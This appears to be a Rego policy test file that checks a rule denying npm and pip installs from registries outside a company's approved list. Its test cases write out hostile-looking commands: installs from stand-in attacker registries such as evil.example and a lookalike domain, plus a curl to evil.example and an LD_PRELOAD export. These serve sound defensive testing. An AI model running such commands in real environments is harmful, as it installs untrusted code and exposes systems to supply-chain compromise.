package company.internal_registry_test

import data.company.internal_registry

test_denies if {
	every line in [
		"npm install --registry https://registry.evil.example left-pad",
		"pip install -i https://pypi.evil.example/simple requests",
		"pip install --index-url https://packages.acme.example.evil.example requests",
		"pip install git+https://github.com/x/y",
		"npm install https://evil.example/x.tgz",
		"npm config set registry https://evil.example",
		`pip install -i "$INDEX" requests`,
		"pip install -i https://evil.example/simple ./local",
	] {
		count(internal_registry.deny) > 0 with input as gate.event(line)
	}
}

test_passes if {
	every line in [
		"npm install left-pad",
		"npm ci",
		"pip install requests",
		"pip install -r requirements.txt",
		"pip install ./local",
		"pip install -i https://packages.acme.example/simple requests",
		"npm install --registry https://npm.packages.acme.example x",
		"npm config get registry",
		"export LD_PRELOAD=./x.so",
		"npm install x && curl https://evil.example/x",
		"curl https://evil.example/x",
	] {
		count(internal_registry.deny) == 0 with input as gate.event(line)
	}
}

test_registries_are_a_parameter if {
	count(internal_registry.deny) == 0 with input as gate.event("npm i --registry https://r.example x")
		with data.gate.params.company.internal_registry.registries as ["r.example"]
}
